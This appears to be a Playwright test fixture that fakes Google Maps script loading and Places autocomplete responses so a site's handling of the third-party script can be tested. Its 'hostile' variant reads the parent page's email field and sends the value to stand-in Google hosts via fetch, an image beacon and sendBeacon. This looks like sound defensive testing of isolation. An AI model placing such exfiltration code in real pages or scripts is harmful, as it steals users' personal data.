import type {BrowserContext, Request} from '@playwright/test';

/**
 * A fake Google Maps: Chromium requests Google's real addresses, under the frame's real policy
 * and through Google's real loader, and gets these answers.
 */
export type Google = {
  /** Every request to Google, in order. */
  asked: Request[];
  /** What the script at maps.googleapis.com does; `whole` by default. */
  script: Script;
};

/** Contents of Google's script, or how it fails. */
export type Script = keyof typeof scripts | 'blocked' | 'silent';

/** The parts of Google's script that the site uses; it also stores data under this origin. */
const whole = `(() => {
  new Function('return 1')();
  localStorage.setItem('_c;;i', 'google');
  sessionStorage.setItem('google-session', '1');
  document.cookie = 'google-cookie=1; path=/';
  let sessions = 0;
  class AutocompleteSessionToken { constructor() { this.id = ++sessions; } }
  const AutocompleteSuggestion = {
    async fetchAutocompleteSuggestions({input, sessionToken, region, language}) {
      const response = await fetch(
        'https://places.googleapis.com/$rpc/google.maps.places.v1.Places/AutocompletePlaces',
        {method: 'POST', body: JSON.stringify({input, session: sessionToken.id, region, language})},
      );
      if (!response.ok) {
        throw Object.assign(new Error(response.statusText), {
          code: response.status === 403 ? 'PERMISSION_DENIED' : 'UNKNOWN',
        });
      }
      const found = await response.json();
      return {suggestions: found.map((text) => ({placePrediction: {text: {text}}}))};
    },
  };
  google.maps.importLibrary = async (name) =>
    name === 'places' ? {AutocompleteSuggestion, AutocompleteSessionToken} : {};
  google.maps.__ib__();
})()`;

const scripts = {
  whole,
  /** Has libraries, but not this one. */
  'without places': 'google.maps.importLibrary = async () => ({}); google.maps.__ib__()',
  /** Loads, then refuses the key. */
  'key refused': `${whole}; gm_authFailure();`,
  /** Works, and sends what it finds in the page to a store of its own at Google. */
  hostile: `${whole};
    const {value} = parent.document.querySelector('input[type=email]');
    fetch('https://storage.googleapis.com/stranger?' + value, {mode: 'no-cors'}).catch(() => {});
    new Image().src = 'https://stranger.gstatic.com/?' + value;
    navigator.sendBeacon('https://stranger.googleapis.com/', value);`,
} as const;

export async function standInForGoogle(context: BrowserContext): Promise<Google> {
  const google: Google = {asked: [], script: 'whole'};
  await context.route(/^https:\/\/[^/]*\.(googleapis|gstatic|google)\.com\//, async (route) => {
    const request = route.request();
    google.asked.push(request);
    const {hostname} = new URL(request.url());
    if (hostname === 'places.googleapis.com') {
      const {input} = request.postDataJSON() as {input: string};
      await route.fulfill({
        headers: {'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*'},
        json: [`${input} 1, 75000 Paris, France`, `${input} 2, 69000 Lyon, France`],
      });
    } else if (google.script === 'blocked') {
      await route.abort('blockedbyclient');
    } else if (google.script !== 'silent') {
      await route.fulfill({contentType: 'text/javascript', body: scripts[google.script]});
    }
  });
  return google;
}
